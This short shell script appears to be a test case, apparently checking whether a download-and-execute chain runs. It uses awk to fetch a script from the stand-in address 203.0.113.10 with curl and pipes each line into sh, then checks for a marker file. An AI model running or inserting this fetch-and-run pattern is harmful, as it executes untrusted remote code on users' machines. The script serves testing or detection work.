#!/bin/sh
. /opt/case/case.sh

awk 'BEGIN { get = "curl -s http://203.0.113.10/payload.sh"; while ((get | getline line) > 0) print line | "sh"; close("sh") }'
test -e /tmp/reached
took_place
